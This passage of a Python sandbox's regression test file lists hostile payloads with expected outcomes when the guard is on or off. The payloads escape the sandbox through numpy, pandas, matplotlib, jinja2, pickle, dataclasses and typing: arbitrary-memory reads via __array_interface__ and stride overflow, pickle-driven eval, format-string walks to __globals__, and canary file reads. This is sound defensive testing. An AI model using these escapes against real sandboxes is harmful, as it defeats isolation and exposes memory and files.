                            next(box[0])
                    except BaseException:
                        pass
                return x
            def inner():
                return map(cb, list(range(5)))
            makers = {
                "islice": lambda: itertools.islice(inner(), 0, None),
                "islice_step": lambda: itertools.islice(inner(), 1, 100, 2),
                "zip_longest": lambda: itertools.zip_longest(inner(), [1, 2, 3, 4, 5, 6, 7]),
                "zip_longest2": lambda: itertools.zip_longest([1], inner()),
                "chain": lambda: itertools.chain(inner(), inner()),
                "chain_from": lambda: itertools.chain.from_iterable(map(lambda i: inner(), range(3))),
                "cycle": lambda: itertools.cycle(inner()),
                "dropwhile": lambda: itertools.dropwhile(lambda x: x < 2, inner()),
                "takewhile": lambda: itertools.takewhile(lambda x: True, inner()),
                "filterfalse": lambda: itertools.filterfalse(None, inner()),
                "starmap": lambda: itertools.starmap(lambda x: x, map(lambda x: (x,), inner())),
                "compress": lambda: itertools.compress(inner(), inner()),
                "accumulate": lambda: itertools.accumulate(inner()),
                "tee": lambda: itertools.tee(inner())[0],
                "groupby": lambda: itertools.groupby(inner()),
                "map": lambda: map(lambda x: x, inner()),
                "filter": lambda: filter(None, inner()),
                "zip": lambda: zip(inner(), inner()),
                "enumerate": lambda: enumerate(inner()),
                "product": lambda: itertools.product(inner()),
                "pairwise_": lambda: zip(inner()),
            }
            out = 0
            for _ in range(300):
                state["armed"] = True
                w = makers[which]()
                box[0] = w
                try:
                    for i, x in zip(range(50), w):
                        if which == "groupby":
                            list(x[1])
                        out += 1
                except BaseException:
                    pass
                box[0] = None
                del w
            return "held", out
        """, on={EXCEPTION, OK}, off={OK, CRASH}),
    # gh-142557: bytearray % formatted from a buffer an argument's __repr__ freed
    # (heap and libc pointers in the result); fixed: the format is copied first
    Payload('bytearray-mod-repr-clears-format', """
        def main():
            victim = bytearray(b"%a" + b"A" * 4000)
            class E:
                def __repr__(self):
                    victim.clear()
                    return "x"
            r = victim % (E(),)
            return len(r), r.count(b"A"), bytes(r[:64]).hex()
        """, on={OK}, off={OK, CRASH, EXCEPTION}),
    # gh-106263: type(ctx.flags)() has no flags pointer: NULL dereference
    Payload('decimal-signaldict-uninitialized', """
        import decimal
        def main():
            t = type(decimal.Context().flags)
            x = t()
            return repr(x)
        """, on={GUARD}, off={CRASH}),
    # review rev11 (matplotlib 3.6's native code): tri.Triangulation checks
    # x, y and triangles in __init__ only; they are plain attributes and
    # the C++ Triangulation (sharing the arrays) trusts the indices
    Payload("mpl-tri-triangles-set-after-init", """
        import numpy as np
        from matplotlib.tri import Triangulation
        def main():
            tri = Triangulation([0.0, 1.0, 0.0], [0.0, 0.0, 1.0], [[0, 1, 2]])
            tri.triangles = np.array([[0, 1, -2**31]], dtype=np.int32)
            return tri.neighbors.tolist()
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-tri-plane-coefficients-oob", """
        import numpy as np
        from matplotlib.tri import Triangulation
        def main():
            tri = Triangulation([0.0, 1.0, 0.0], [0.0, 0.0, 1.0], [[0, 1, 2]])
            tri.triangles = np.array([[0, 1, 2**31 - 1]], dtype=np.int32)
            return tri.calculate_plane_coefficients([1.0, 2.0, 3.0]).tolist()
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-tri-triangles-changed-in-place", """
        import numpy as np
        from matplotlib.tri import Triangulation
        def main():
            tri = Triangulation([0.0, 1.0, 0.0], [0.0, 0.0, 1.0], [[0, 1, 2]])
            tri.get_cpp_triangulation()
            tri.triangles[0, 2] = 2**31 - 1
            return tri.calculate_plane_coefficients([1.0, 2.0, 3.0]).tolist()
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-tri-x-shortened-heap-read", """
        import numpy as np
        from matplotlib.tri import Triangulation
        def main():
            tri = Triangulation(np.arange(100.0), np.arange(100.0) ** 2, [[0, 1, 99]])
            tri.x = np.zeros(1)
            tri.y = np.zeros(1)
            return tri.calculate_plane_coefficients(np.zeros(1)).tolist()
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-tri-native-class-by-type", """
        import numpy as np
        from matplotlib.tri import Triangulation
        def main():
            tri = Triangulation([0.0, 1.0, 0.0], [0.0, 0.0, 1.0], [[0, 1, 2]])
            native = type(tri.get_cpp_triangulation())
            cpp = native(np.zeros(3), np.zeros(3), np.array([[0, 1, 2**31 - 1]], np.int32),
                         None, None, None, True)
            return cpp.calculate_plane_coefficients(np.zeros(3)).tolist()
        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
    # draw_image reached by the library's own AxesImage.draw (no pandas in
    # between): a subclass's make_image returns an (h, w, 1) image (fixed
    # in main by c858892's _checked_image; this is a second route to it)
    Payload("mpl-draw-image-from-make-image", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.image import AxesImage
        class Img(AxesImage):
            def make_image(self, renderer, magnification=1.0, unsampled=False):
                return np.zeros((480, 100000, 1), np.uint8), 0, 0, None
        def main():
            fig, ax = plt.subplots()
            im = Img(ax)
            im.set_data(np.zeros((2, 2)))
            ax.add_image(im)
            fig.canvas.draw()
            return 1
        """, on={EXCEPTION, GUARD}, off={OK, CRASH, EXCEPTION, GUARD}),
    # -- review 14 (validator / compile-time rewrites) ----------------------
    # super(cls, obj) written out: the validator lets super(...).__init__
    # through for any arguments; on a library object NDFrame.__init__ set
    # the DataFrame's internal manager (df._mgr) to the code's own object,
    # which pandas then called with its internals
    Payload("super-two-args-ndframe-init-sets-mgr", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"a": [1, 2]})
            seen = []
            class M:
                def apply(self, f, *a, **k):
                    seen.append(repr(f))
                    return self
            super(pd.DataFrame, df).__init__(M())
            try:
                df.abs()
            except Exception:
                pass
            return seen
        """, on={GUARD}, off={OK}),
    # a class with a library base may bind no private name: one bound under
    # if/for/with/try, or by a match capture or an import, was not seen by
    # the decorator's scan of the body, and matplotlib called it with its
    # GraphicsContext
    Payload("own-class-private-name-under-if", """
        import io
        import matplotlib
        import matplotlib.pyplot as plt
        from matplotlib.lines import Line2D
        def main():
            matplotlib.use("agg")
            leak = []
            class L(Line2D):
                if True:
                    def _set_gc_clip(self, *a):
                        leak.append([type(x).__name__ for x in a])
            fig, ax = plt.subplots()
            ax.add_line(L([0, 1], [0, 1]))
            fig.savefig(io.BytesIO(), format="png")
            return leak
        """, on={GUARD}, off={OK}),
    Payload("own-class-private-name-match-capture", """
        import io
        import matplotlib
        import matplotlib.pyplot as plt
        from matplotlib.lines import Line2D
        def main():
            matplotlib.use("agg")
            leak = []
            def grab(self, *a):
                leak.append([type(x).__name__ for x in a])
            class L(Line2D):
                match grab:
                    case _set_gc_clip:
                        pass
            fig, ax = plt.subplots()
            ax.add_line(L([0, 1], [0, 1]))
            fig.savefig(io.BytesIO(), format="png")
            return leak
        """, on={GUARD}, off={OK}),
    Payload("format-method-in-fullwidth", """
        def main():
            f = "{0.__cl" + "ass__.__ba" + "se__}"
            return f.\uff46\uff4f\uff52\uff4d\uff41\uff54(1)
        """, off={OK}),
    # a review's bypasses of the 0.2 relaxations: classes behind checked
    # copies, metaclasses called with a dict, copy's process-wide tables
    Payload("attrgetter-class-behind-checked-copy", """
        import operator
        import pandas as pd
        def main():
            g = type(operator.attrgetter("real"))("__globals__")(pd.read_csv)
            return sorted(g)[:5]
        """, off={EXCEPTION, OK}),
    Payload("metaclass-builds-array-interface", """
        import abc
        import numpy as np
        def main():
            b = b"secret-bytes-here"
            A = type(abc.ABC)("A", (), {"__array_interface__": {
                "data": (id(b), False), "shape": (48,), "typestr": "|u1", "version": 3}})
            return bytes(np.asarray(A()))
        """, off={OK, CRASH}),
    Payload("abcmeta-builds-array-interface", """
        import abc
        import numpy as np
        def main():
            b = b"secret-bytes-here"
            A = abc.ABCMeta("A", (), {"__array_interface__": {
                "data": (id(b), False), "shape": (48,), "typestr": "|u1", "version": 3}})
            return bytes(np.asarray(A()))
        """, off={OK, CRASH}),
    # a second review: singledispatch's register(instance) evaluated the
    # annotations of its class with the real builtins (get_type_hints of an
    # object has no globals): a computed "type" gave the real metaclass
    Payload("singledispatch-instance-real-type", """
        import functools
        import numpy as np
        class C:
            x: "ty" + "pe"
        def main():
            @functools.singledispatch
            def f(a):
                return 1
            f.register(C())
            real = [k for k in f.registry if k is not object][0]
            b = b"secret-bytes-here"
            K = real("K", (), {"__array" + "_interface__": {
                "data": (id(b), False), "shape": (48,), "typestr": "|u1", "version": 3}})
            return bytes(np.asarray(K()))
        """, off={OK, CRASH}),
    Payload("singledispatchmethod-instance-real-type", """
        import functools
        class C:
            x: "ty" + "pe"
        class D:
            @functools.singledispatchmethod
            def f(self, a):
                return 1
        def main():
            D.f.register(C())
            return D().f(1)
        """, off={OK}),
    # a third review (2026-12-03): libraries that look names up or compile
    # text for the code.  pd.eval(level=1) resolved names in the runtime's
    # frame (its real builtins); df.pipe(pd.eval, ...) in pandas' own
    Payload("pandas-eval-level-runtime-builtins", """
        import pandas as pd
        def main():
            # the runtime's frame is 1 above main, 2 above a language function's body
            errors = []
            for level in range(1, 6):
                try:
                    return repr(pd.eval("builtins", level=level, engine="python"))
                except Exception as e:
                    errors.append(e)
            raise next((e for e in errors if "not allowed" in str(e)), errors[0])
        """, off={OK, EXCEPTION}),
    Payload("pandas-eval-called-by-pandas", """
        import pandas as pd
        def main():
            # pd.eval called by pandas: names resolve in pandas' own module
            return repr(pd.Series(["np"]).apply(pd.eval, engine="python")[0])
        """, off={OK, EXCEPTION}),
    Payload("pandas-scope-direct", """
        from pandas.core.computation.scope import Scope
        def main():
            return repr(Scope(1).scope["gc"])
        """, off={OK, EXCEPTION}),
    # numpy's NpzFile(allow_pickle=True) on bytes made in memory unpickled:
    # builtins.eval of any text
    Payload("numpy-npzfile-pickle-eval", """
        import io, struct, zlib
        import numpy as np
        def stored_zip(name, data):
            n = name.encode()
            crc = zlib.crc32(data)
            local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, crc,
                                len(data), len(data), len(n), 0) + n
            central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0,
                                  crc, len(data), len(data), len(n), 0, 0, 0, 0, 0, 0) + n
            end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central),
                              len(local) + len(data), 0)
            return local + data + central + end
        def main():
            u = "_" * 2
            text = "len(object.%ssubclasses%s())" % (u, u)
            pk = (b"\\x80\\x02cbuiltins\\neval\\nX" + struct.pack("<I", len(text)) +
                  text.encode() + b"\\x85R.")
            header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
            header = header + " " * (118 - len(header)) + "\\n"
            npy = (b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) +
                   header.encode() + pk)
            z = np.lib.npyio.NpzFile(io.BytesIO(stored_zip("x.npy", npy)), allow_pickle=True)
            return repr(z["x"])
        """, off={OK}),
    # GroupBy.apply("name") is getattr(self, name), unbound on any object
    Payload("groupby-apply-string-getattr", """
        import json
        import pandas as pd
        def main():
            u = "_" * 2
            G = type(pd.DataFrame({"a": [1]}).groupby("a"))
            g = G.apply(json.dumps, u + "globals" + u)
            return repr(g[u + "builtins" + u]["eval"])
        """, off={OK}),
    # as_strided and DummyArray: an array over any address (id() is one)
    Payload("numpy-as-strided-any-address", """
        import numpy as np
        from numpy.lib.stride_tricks import as_strided
        def main():
            anchor = b"\\x00"
            secret = b"secret-bytes-here"
            base = np.frombuffer(anchor, dtype=np.uint8)
            view = as_strided(base, shape=(2,), strides=(id(secret) + 32 - (id(anchor) + 32),),
                              writeable=False)
            return int(view[1])
        """, off={OK, CRASH}),
    Payload("numpy-dummyarray-any-address", """
        import numpy as np
        from numpy.lib.stride_tricks import DummyArray
        def main():
            s = b"secret-in-memory"
            a = np.asarray(DummyArray({"data": (id(s) + 32, False), "shape": (16,),
                                       "typestr": "|u1", "version": 3}))
            return bytes(a).decode()
        """, off={OK, CRASH}),
    # pandas' jinja2 Environment compiles any template outside jinja2's
    # sandbox: {{ x.__class__ }} walks attributes
    Payload("styler-jinja2-environment", """
        import pandas as pd
        def main():
            u = "_" * 2
            env = pd.DataFrame({"a": [1]}).style.env
            t = env.from_string("{{ (x.%sclass%s.%smro%s[1].%ssubclasses%s() | length) }}"
                                % ((u,) * 6))
            return t.render(x=1)
        """, off={OK}),
    Payload("styler-jinja2-template-class", """
        import pandas as pd
        def main():
            t = pd.DataFrame({"a": [1]}).style.template_html
            return repr(t.environment_class)
        """, off={OK}),
    # matplotlib's StrMethodFormatter calls str.format itself
    Payload("strmethodformatter-format-fields", """
        import matplotlib.ticker as ticker
        import warnings
        def main():
            u = "_" * 2
            f = ticker.StrMethodFormatter("{x.%sinit%s.%sglobals%s}" % ((u,) * 4))
            return f(warnings.catch_warnings())[:100]
        """, off={OK}),
    # a fourth review (2026-12-03): the object of a failed lookup, kept by
    # Python as AttributeError.obj, was the real module behind a proxy
    Payload("attributeerror-obj-real-module", """
        import pandas as pd
        def main():
            try:
                pd.no_such_name
            except AttributeError as e:
                real = e.obj
            return repr(real.io.formats.style_render.jinja2)
        """, on={GUARD, EXCEPTION}, off={OK}),
    Payload("attributeerror-obj-inside-library", """
        import numpy as np
        def main():
            try:
                np.add.reduce(np.arange(3), dtype="no-such-dtype")
            except Exception as e:
                pass
            try:
                getattr(np, "no_such_name")
            except AttributeError as e:
                found = repr(e.obj)
            if "module" not in found:
                raise RuntimeError("no object of the failed lookup: " + found)
            return found
        """, on={GUARD, EXCEPTION}, off={OK}),
    # pandas' name dispatch reads what _LibraryOnly gives pandas' frames
    Payload("groupby-apply-styler-env", """
        import pandas as pd
        def main():
            styler = pd.DataFrame({"a": [1]}).style
            apply = type(pd.DataFrame({"a": [1]}).groupby("a")).apply
            return repr(apply(styler, "env"))
        """, off={OK}),
    # an int subclass as level= counted one way for the check, another for pandas
    Payload("pandas-eval-level-int-subclass", """
        import pandas as pd
        def main():
            class Level(int):
                def __add__(self, other):
                    calls.append(1)
                    if len(calls) == 4:
                        return int(self) + other + 1
                    return Level(int(self) + other)
            calls = []
            return repr(pd.eval("builtins", level=Level(0), engine="python"))
        """, off={OK, EXCEPTION}),
    # markupsafe's Markup.format runs a string.Formatter over the string
    Payload("markup-format-fields", """
        import pandas as pd
        import logging
        def main():
            got = []
            def keep(x):
                got.append(x)
                return "x"
            pd.DataFrame({"a": ["t"]}).style.format(keep, escape="html").to_html()
            fmt = type(got[0])("{0." + "_" * 2 + "globals" + "_" * 2 + "[sys]}")
            return str(fmt.format(logging.getLogger))
        """, off={OK}),
    # checks that read an attribute twice: the code's object answers twice
    Payload("logging-formatter-style-twice", """
        import io
        import logging
        def main():
            class Style:
                n = 0
                def __eq__(self, other):
                    Style.n += 1
                    return Style.n % 3 == 1
            out = io.StringIO()
            handler = logging.StreamHandler(out)
            fmt = logging.Formatter("{message}")
            fmt.fmt = "{f." + "_" * 2 + "globals" + "_" * 2 + "[sys]}"
            fmt.style = Style()
            handler.setFormatter(fmt)
            log = logging.getLogger("x")
            log.addHandler(handler)
            log.warning("hi", extra={"f": logging.getLogger})
            text = out.getvalue()
            if "module" not in text:
                raise RuntimeError("the format was not walked: " + text)
            return text
        """, on={GUARD, EXCEPTION, VALIDATOR}, off={OK, EXCEPTION}),
    Payload("strmethodformatter-fmt-twice", """
        import logging
        from matplotlib.ticker import StrMethodFormatter
        def main():
            class Flip(StrMethodFormatter):
                def __init__(self):
                    self.reads = 0
                def get_fmt(self):
                    self.reads += 1
                    if self.reads % 2:
                        return "{x}"
                    return "{x." + "_" * 2 + "globals" + "_" * 2 + "[sys]}"
                fmt = property(get_fmt)
            text = Flip()(logging.getLogger)
            if "module" not in text:
                raise RuntimeError("the format was not walked: " + text)
            return text
        """, on={GUARD, EXCEPTION, VALIDATOR}, off={OK, EXCEPTION}),
    # a fifth review (2026-12-03), the standard library: a ForwardRef with
    # module= and a function's __wrapped__ had typing evaluate in another
    # module's globals (the real operator.attrgetter, then any attribute)
    Payload("typing-forwardref-module", """
        import typing, functools
        def main():
            FR = type(typing.get_args(typing.List["x"])[0])
            ref = FR("attrgetter", module="operator")
            def f(a: ref):
                pass
            d = functools.singledispatch(lambda a: a)
            d.register(f)
            return repr([k for k in d.registry.keys() if k is not object][0])
        """, off={OK}),
    Payload("typing-wrapped-globals", """
        import functools, typing
        def main():
            ann = "operator" + "." + "attrgetter"
            def f(a: ann):
                pass
            f = functools.wraps(typing.get_args, assigned=())(f)
            d = functools.singledispatch(lambda a: a)
            d.register(f)
            return repr([k for k in d.registry.keys() if k is not object][0])
        """, off={OK, EXCEPTION}),
    # a dataclass field's name is pasted into the text dataclasses exec()s
    Payload("dataclass-field-name-code", """
        import dataclasses
        def main():
            @dataclasses.dataclass
            class A:
                x: int = dataclasses.field(default=0, init=False, repr=False, compare=False)
            dataclasses.fields(A)[0].name = ("x=0,**k):\\n"
                " return lambda self, *a, **kw: self.__dict__.update(b=__builtins__)\\n"
                "def q(y")
            B = dataclasses.make_dataclass("B", [], bases=(A,))
            return repr(B().b["eval"])
        """, off={OK}),
    # SimpleNamespace(**{"__array_interface__": ...}): an array over any address
    Payload("simplenamespace-array-interface", """
        import time
        import numpy as np
        def main():
            NS = type(time.get_clock_info("time"))
            secret = b"immutable bytes!"
            iface = {"data": (id(secret) + 32, False), "shape": (16,), "typestr": "|u1",
                     "version": 3}
            return bytes(np.asarray(NS(**{"__array_interface__": iface}))).decode()
        """, off={OK, CRASH}),
    Payload("kwargs-dunder-keyword", """
        import functools
        def main():
            return repr(functools.partial(dict, **{"__array_interface__": {}})())
        """, off={OK}),
    # the Field class's own attribute replaced: dataclasses reads a field's
    # name through it
    Payload("dataclass-field-class-property", """
        import dataclasses
        def main():
            @dataclasses.dataclass
            class A:
                x: int = 0
            F = type(dataclasses.fields(A)[0])
            F.name = property(lambda f: "x=0,**k):\\n return 1\\ndef q(y")
            B = dataclasses.make_dataclass("B", [], bases=(A,))
            return repr(B)
        """, off={OK, EXCEPTION}),
    # setattr() checks a computed name as obj.name = value is checked
    Payload("setattr-computed-dunder", """
        import numpy as np
        class C:
            pass
        def main():
            b = b"secret-bytes-here"
            setattr(C, "_" * 2 + "array_interface" + "_" * 2, property(lambda self: {
                "data": (id(b), False), "shape": (48,), "typestr": "|u1", "version": 3}))
            return bytes(np.asarray(C()))
        """, off={OK, CRASH}),
    # a sixth review (2026-12-03), numpy: its check of strides over a
    # buffer overflows (stride*(dim-1) summed in 64 bits): an element at
    # any address; and an object dtype over a buffer reads bytes as pointers
    Payload("numpy-ndarray-strides-overflow", """
        import numpy as np
        def main():
            secret = b"secret-bytes-here"
            anchor = bytes(64)
            d = id(secret) + 32 - (id(anchor) + 32)
            T = 2 ** 63
            st = (d, T - 1, T + 1 - d) if d >= 2 else (d, -T, -T - d)
            a = np.ndarray((2, 2, 2), dtype="u1", buffer=anchor, strides=st)
            return int(a[1, 0, 0])
        """, off={OK, CRASH}),
    Payload("numpy-type-of-array-strides", """
        import numpy as np
        def main():
            A = type(np.zeros(1))
            return repr(A((2,), dtype="u1", buffer=bytes(8), strides=(2 ** 62,)))
        """, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-ndarray-strides-no-buffer", """
        import numpy as np
        def main():
            T = 2 ** 63
            a = np.ndarray((2, 2, 2), dtype="u1", strides=(4096, T - 1, T + 1 - 4096))
            return int(a[1, 0, 0])
        """, off={OK, CRASH}),
    Payload("numpy-real-ndarray-through-get-origin", """
        import typing
        import numpy.typing as npt
        def main():
            A = typing.get_origin(npt.NDArray)
            T = 2 ** 63
            a = A((2, 2, 2), dtype="u1", strides=(4096, T - 1, T + 1 - 4096))
            return int(a[1, 0, 0])
        """, off={OK, CRASH}),
    Payload("numpy-rec-array-strides", """
        import numpy as np
        def main():
            T = 2 ** 63
            r = np.rec.array(None, dtype=[("a", "u1")], shape=(2, 2, 2),
                             strides=(4096, T - 1, T + 1 - 4096))
            return int(r[1, 0, 0].a)
        """, off={OK, CRASH}),
    Payload("numpy-mrecords-strides", """
        import numpy.ma.mrecords as mr
        def main():
            T = 2 ** 63
            r = mr.MaskedRecords((2, 2, 2), dtype=[("a", "u1")],
                                 strides=(4096, T - 1, T + 1 - 4096))
            return repr(r)
        """, off={OK, CRASH, EXCEPTION}),
    # a review of the session's own guards: other routes to the real
    # ndarray class and to its setters
    Payload("numpy-masked-baseclass-strides", """
        import numpy as np
        def main():
            R = np.ma.array([1]).baseclass
            T = 2 ** 63
            a = R((2, 2, 2), dtype="u1", strides=(4096, T - 1, T + 1 - 4096))
            return int(a[1, 0, 0])
        """, off={OK, CRASH}),
    Payload("numpy-typing-ndarray-alias-call", """
        import numpy.typing as npt
        def main():
            T = 2 ** 63
            a = npt.NDArray(shape=(2, 2, 2), dtype="u1", strides=(4096, T - 1, T + 1 - 4096))
            return int(a[1, 0, 0])
        """, off={OK, CRASH}),
    Payload("numpy-strides-descriptor-alias", """
        import numpy as np
        class A(np.ndarray):
            s = np.ndarray.strides
        def main():
            T = 2 ** 63
            x = np.zeros(8, dtype="u1").reshape(2, 2, 2).view(A)
            x.s = (4096, T - 1, T + 1 - 4096)
            return int(x[1, 0, 0])
        """, off={OK, CRASH, EXCEPTION}),
    Payload("kwargs-dict-subclass-keys", """
        import numpy as np
        from matplotlib.backend_bases import PickEvent
        class Quiet(dict):
            def keys(self):
                return []
        def main():
            secret = b"secret-bytes-here"
            iface = {"data": (id(secret) + 32, False), "shape": (17,), "typestr": "|u1",
                     "version": 3}
            ev = PickEvent("pick_event", None, None, None, **Quiet(
                {"_" * 2 + "array_interface" + "_" * 2: iface}))
            return bytes(np.asarray(ev)).decode()
        """, off={OK, CRASH, EXCEPTION}),
    Payload("exit-method-attributeerror-obj", """
        import pandas as pd
        class Keep:
            def __enter__(self):
                return self
            def __exit__(self, t, e, tb):
                self.e = e
                self.tb = tb
                return True
        def main():
            k = Keep()
            with k:
                pd.no_such_name
            if k.e.obj is None and k.tb is None:
                raise RuntimeError("the exception came without its object and traceback")
            return repr(k.e.obj)
        """, on={GUARD, EXCEPTION}, off={OK}),
    Payload("numpy-strides-setter", """
        import numpy as np
        def main():
            a = np.zeros((2, 2, 2), dtype="u1")
            a.strides = (2 ** 40, 2 ** 63 - 1, 1)
            return int(a[1, 0, 0])
        """, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-strides-setattr", """
        import numpy as np
        def main():
            a = np.zeros((2, 2, 2), dtype="u1")
            setattr(a, "stri" + "des", (2 ** 40, 2 ** 63 - 1, 1))
            return int(a[1, 0, 0])
        """, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-object-array-over-buffer", """
        import numpy as np, struct
        def main():
            x = "an object"
            a = np.ndarray((1,), dtype=object, buffer=bytearray(struct.pack("<Q", id(x))))
            return repr(a[0])
        """, off={OK, CRASH}),
    Payload("numpy-rec-fromstring-object", """
        import numpy as np, struct
        def main():
            x = "an object"
            r = np.rec.fromstring(struct.pack("<Q", id(x)), dtype=[("a", "O")])
            return repr(r[0].a)
        """, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-data-assign-object-array", """
        import numpy as np, struct
        def main():
            x = "an object"
            a = np.empty(1, dtype=object)
            a.data = bytearray(struct.pack("<Q", id(x)))
            return repr(a[0])
        """, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-lookfor-imports", """
        import numpy as np
        def main():
            np.lookfor("x", module="sb_guard", import_modules=True)
            return 1
        """, off={OK, EXCEPTION}),
    # pandas internals that call any method by name (BlockManager.apply),
    # read any address (the interchange protocol), set any attribute
    Payload("pandas-core-blockmanager-apply", """
        import pandas as pd
        def main():
            BM = pd.core.internals.BlockManager
            return repr(BM)
        """, off={OK}),
    Payload("seriesgroupby-filter-string-setattr", """
        import numpy as np
        import pandas as pd
        def main():
            u = "_" * 2
            class Target:
                pass
            target = Target()
            class Groups:
                def __iter__(self):
                    return iter([("k", target)])
            secret = b"sandbox secret bytes"
            iface = {"shape": (20,), "typestr": "|u1", "data": (id(secret) + 32, False),
                     "version": 3}
            SGB = type(pd.DataFrame({"a": [1], "x": [2]}).groupby("a")["x"])
            try:
                SGB.filter(Groups(), u + "setattr" + u, True, u + "array_interface" + u, iface)
            except (TypeError, ValueError, KeyError):
                pass
            return bytes(np.asarray(target).tolist()).decode("latin-1")
        """, off={OK, CRASH, EXCEPTION}),
    Payload("series-label-special-name", """
        import pandas as pd
        def main():
            # a library asking the Series for a special name got the label's value
            name = "_" * 2 + "dataframe" + "_" * 2
            s = pd.Series([len, 0], index=[name, "x"])
            if not hasattr(s, name):
                raise RuntimeError("the label does not answer for the special name")
            return "answered"
        """, on={GUARD, EXCEPTION}, off={OK}),
    Payload("stylerrenderer-format-unbound", """
        import pandas as pd
        def main():
            u = "_" * 2
            st = pd.DataFrame({"a": [pd.read_csv]}).style
            pd.io.formats.style_render.StylerRenderer.format(
                st, "{0." + u + "globals" + u + "[" + u + "name" + u + "]}")
            return st.to_html()[-300:]
        """, off={OK}),
    Payload("styler-relabel-index-format", """
        import pandas as pd
        def main():
            u = "_" * 2
            st = pd.DataFrame({"a": [1]}, index=[pd.read_csv]).style
            st.relabel_index(["{0." + u + "globals" + u + "[" + u + "name" + u + "]}"])
            return st.to_html()[-300:]
        """, off={OK}),
    # a function of the code's own: its annotation resolves in the call's
    # builtins, where type is the guard's function, no class
    Payload("singledispatch-function-computed-type", """
        import functools
        def g(a: "ty" + "pe"):
            return 2
        def main():
            @functools.singledispatch
            def f(a):
                return 1
            f.register(g)
            return [repr(k) for k in f.registry]
        """, on={EXCEPTION}, off={OK}),
    Payload("namedtuplemeta-with-a-dict", """
        import typing
        def main():
            return str(typing.NamedTupleMeta("X", (), {"__module__": "m", "__len__": len}))
        """, off={EXCEPTION}),
    Payload("copy-dispatch-table-sets-attributes", """
        import copy
        from dateutil.relativedelta import relativedelta
        class C:
            pass
        def ident(x):
            return x
        def main():
            rd = relativedelta(months=1)
            copy.dispatch_table[C] = lambda x: (ident, (rd,), (None, {"_has_time": "pwned"}))
            copy.copy(C())
            return repr(rd)
        """, off={OK}),
    Payload("copy-deepcopy-memo", """
        import copy
        from dateutil.relativedelta import relativedelta
        def main():
            memo = {}
            copy.deepcopy(relativedelta(months=1), memo)
            return [sorted(v) for v in memo.values() if type(v) is dict]
        """, off={OK}),
    # the standard library modules allowed since 0.2: nothing of them reads
    # a file by name (warnings' source lines, zoneinfo's search path,
    # dateutil's tz files), copies a module proxy's insides, or reaches a
    # module the allowlist leaves out
    Payload("warnings-source-line-of-a-file", """
        import warnings
        def main(canary_tmp):
            return warnings.formatwarning("x", UserWarning, canary_tmp, 1)
        """, on={GUARD}, off={OK}),
    Payload("warnings-explicit-file", """
        import warnings
        def main(canary_data):
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                warnings.warn_explicit("x", UserWarning, canary_data, 1)
            return [str(w.line) for w in caught]
        """, on={GUARD}, off={OK}),
    Payload("zoneinfo-path-to-a-file", """
        import zoneinfo
        def main(canary_tmp):
            directory, name = canary_tmp.rsplit("/", 1)
            zoneinfo.reset_tzpath([directory])
            return str(zoneinfo.ZoneInfo(name))
        """, on={GUARD}, off={EXCEPTION, DENIED}),
    Payload("zoneinfo-key-walks-up", """
        import zoneinfo
        def main(canary_tmp):
            return str(zoneinfo.ZoneInfo("../../.." + canary_tmp))
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("copy-of-a-module-proxy", """
        import copy
        import pandas as pd
        def main():
            return [repr(copy.copy(pd)), repr(copy.deepcopy(pd.io))]
        """, on={EXCEPTION}, off={EXCEPTION}),
    # "import dateutil.parser" now binds a package of the allowed submodules
    # (it was refused): dateutil.parser has no tz, and dateutil holds no tz
    Payload("dateutil-tz-through-its-parser", """
        from dateutil.parser import parse
        import dateutil.parser
        def main(canary_tmp):
            return str(dateutil.parser.tz.tzfile(canary_tmp))
        """, on={GUARD, EXCEPTION}, off={DENIED, EXCEPTION}),
    Payload("dateutil-parser-module-reaches-tz", """
        from dateutil.parser import parser
        def main(canary_tmp):
            import dateutil.parser as p
            return str(p.tz.tzfile(canary_tmp))
        """, on={GUARD, EXCEPTION}, off={DENIED, EXCEPTION}),
    # matplotlib is allowed: a figure writes no file, runs no program,
    # switches to no other backend and draws no more than max_figure_pixels
    Payload("mpl-chart-reads-its-fonts", """
        import matplotlib.pyplot as plt
        def main():
            fig, ax = plt.subplots()
            ax.set_title("serif", fontfamily="serif")
            ax.set_xlabel("mono", fontfamily="monospace")
            ax.plot([1, 2])
            plt.style.use("ggplot")
            import io
            buf = io.BytesIO()
            fig.savefig(buf, format="png")
            return len(buf.getvalue()) > 1000
        """, on={OK}, off={OK}),
    Payload("mpl-savefig-path", """
        import matplotlib.pyplot as plt
        def main():
            plt.plot([1, 2])
            plt.savefig("/tmp/pysandbox-hostile-chart.png")
        """, on={GUARD}, off={DENIED, SECCOMP}),
    Payload("mpl-print-png-path", """
        import matplotlib.pyplot as plt
        def main():
            fig = plt.figure()
            fig.canvas.print_png("/tmp/pysandbox-hostile-chart.png")
        """, on={GUARD, DENIED}, off={DENIED, SECCOMP}),
    Payload("mpl-imsave-data-dir", """
        import numpy as np
        import matplotlib.image as image
        def main():
            image.imsave("global/pysandbox-hostile.png", np.zeros((4, 4)))
        """, on={GUARD}, off={DENIED, SECCOMP}),
    Payload("mpl-usetex-runs-latex", """
        import matplotlib.pyplot as plt
        def main():
            plt.rcParams["text.usetex"] = True
            plt.title("$x$")
            return plt.gcf()
        """, on={EXCEPTION}, off={SECCOMP, DENIED, EXCEPTION}),
    Payload("mpl-animation-ffmpeg", """
        import matplotlib.pyplot as plt
        import matplotlib.animation as animation
        def main():
            fig = plt.figure()
